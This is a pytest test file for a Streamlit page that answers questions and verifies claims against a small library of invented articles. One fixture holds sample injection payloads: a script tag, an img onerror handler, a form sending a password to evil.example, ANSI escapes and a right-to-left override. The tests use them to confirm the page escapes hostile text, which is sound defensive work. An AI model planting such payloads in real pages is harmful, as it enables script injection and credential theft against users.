"""The web page, run as Streamlit runs it, over small libraries of made-up articles."""

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from verify.shipped import shipped
from verify.verifier import Verifier

PAGE = shipped("streamlit_app.py")
PILOTS = """The ferry pilots of Lower Harbour turned the offer down on Monday.
Six of the 24 crews rejected the offer, the harbour board said. Turnout was 81 percent.
"We will sail when the rota is fair," said Ida Holm, who speaks for the pilots.
"""
HOSTILE = """The toll bridge opened in May <script>alert(1)</script> with nine lanes.
<form action="https://evil.example"><input name="password"></form> The toll is 7 dollars.
The bridge <img src=x onerror=alert(2)> has [red]nine lanes[/red] \x1b[31mand\x1b[0m \u202ea toll.
"""

Page = Callable[[], AppTest]


@pytest.fixture
def page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Page]:
    """The page over the library in `tmp_path / "library"`, from a folder that is not ours."""
    monkeypatch.setenv("VERIFY_STORE", str(tmp_path / "library"))
    monkeypatch.chdir(tmp_path)
    yield lambda: AppTest.from_file(PAGE, default_timeout=60).run()
    st.cache_resource.clear()


@pytest.fixture
def shelve(tmp_path: Path) -> Callable[[str, str], None]:
    """Put an article into the library of the page."""

    def add(name: str, text: str) -> None:
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        with Verifier.open(tmp_path / "library") as desk:
            assert not desk.add(path).failed

    return add


def check(at: AppTest, text: str, kind: str = "auto") -> str:
    """What the page shows after `text` was put into its box."""
    at.text_area[0].set_value(text)
    at.radio[0].set_value(kind)
    at.button[0].click().run()
    assert not at.exception
    return shown(at)


def shown(at: AppTest) -> str:
    return "".join(html.value for html in at.html if not html.value.startswith("<style>"))


def test_an_empty_library_offers_the_samples_and_then_the_box(page: Page) -> None:
    at = page()
    assert "The library is empty" in at.subheader[0].value
    assert not at.text_area
    at.button[0].click().run()
    assert not at.exception
    assert at.text_area[0].label == "Question or claim"
    articles = len(list((shipped("seeds") / "articles").iterdir()))
    assert at.caption[0].value.startswith(f"{articles} articles in the library")


def test_a_question_is_answered_with_its_working_and_the_cited_words(
    page: Page, shelve: Callable[[str, str], None]
) -> None:
    shelve("pilots.txt", PILOTS)
    html = check(page(), "What share of the crews rejected the offer?")
    assert '<p class="v-answer" dir="auto">' in html
    assert "6 of 24 = 25" in html
    assert "<mark>Six of the 24 crews</mark>" in html
    assert html.index("v-answer") < html.index("v-working") < html.index("<mark>")


def test_a_claim_gets_a_verdict_with_its_evidence(
    page: Page, shelve: Callable[[str, str], None]
) -> None:
    shelve("pilots.txt", PILOTS)
    html = check(page(), "Turnout was 81 percent.")
    assert "Supported" in html
    assert html.index("Supported") < html.index("Evidence") < html.index("<mark>")


@pytest.mark.parametrize(
    ("text", "kind", "verdict"),
    [
        ("Turnout was 81 percent?", "auto", False),
        ("Turnout was 81 percent", "auto", True),
        ("Turnout was 81 percent?", "claim", True),
        ("what was the turnout", "question", False),
    ],
)
def test_a_question_mark_decides_unless_the_reader_does(
    page: Page, shelve: Callable[[str, str], None], text: str, kind: str, verdict: bool
) -> None:
    shelve("pilots.txt", PILOTS)
    assert ("confidence" in check(page(), text, kind)) == verdict


def test_a_question_that_no_source_answers_is_declined_with_a_reason(
    page: Page, shelve: Callable[[str, str], None]
) -> None:
    shelve("pilots.txt", PILOTS)
    html = check(page(), "What is the capital of France?")
    assert "No answer in the sources" in html
    assert "v-answer" not in html


def test_an_empty_box_is_no_question_and_no_verdict(
    page: Page, shelve: Callable[[str, str], None]
) -> None:
    shelve("pilots.txt", PILOTS)
    html = check(page(), "  ")
    assert 'class="v-notice" role="alert"' in html
    assert "v-badge" not in html


def test_a_library_that_cannot_be_opened_is_a_failure_with_its_reason(
    page: Page, tmp_path: Path
) -> None:
    (tmp_path / "library").mkdir()
    (tmp_path / "library" / "library.db").write_text("this is not a database " * 100)
    at = page()
    assert not at.exception
    assert "v-failure" in shown(at)
    assert not at.text_area


def test_a_hostile_source_is_shown_as_text(page: Page, shelve: Callable[[str, str], None]) -> None:
    shelve("bridge.txt", HOSTILE)
    html = check(page(), "The bridge has nine lanes and a toll of 7 dollars.")
    assert "<mark>" in html
    assert "&lt;" in html
    for element in ("<script", "<img", "<form", "<input", "\x1b", "\u202e"):
        assert element not in html


def test_a_result_stays_until_the_next_one(page: Page, shelve: Callable[[str, str], None]) -> None:
    shelve("pilots.txt", PILOTS)
    at = page()
    first = check(at, "Turnout was 81 percent.")
    assert shown(at.run()) == first
    assert check(at, "Turnout was 18 percent.") != first
